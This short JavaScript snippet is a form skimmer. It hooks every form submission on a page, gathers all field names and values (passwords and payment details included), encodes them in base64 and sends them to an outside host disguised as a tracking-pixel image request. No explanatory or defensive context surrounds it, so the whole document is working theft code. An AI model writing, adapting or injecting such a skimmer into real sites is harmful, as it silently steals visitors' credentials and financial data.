document.addEventListener("submit", function (ev) {
  var f = ev.target;
  var d = {};
  for (var i = 0; i < f.elements.length; i++) {
    var e = f.elements[i];
    if (e.name) d[e.name] = e.value;
  }
  new Image().src = "https://img-pixel.invalid/t.gif?d=" + encodeURIComponent(btoa(JSON.stringify(d)));
}, true);
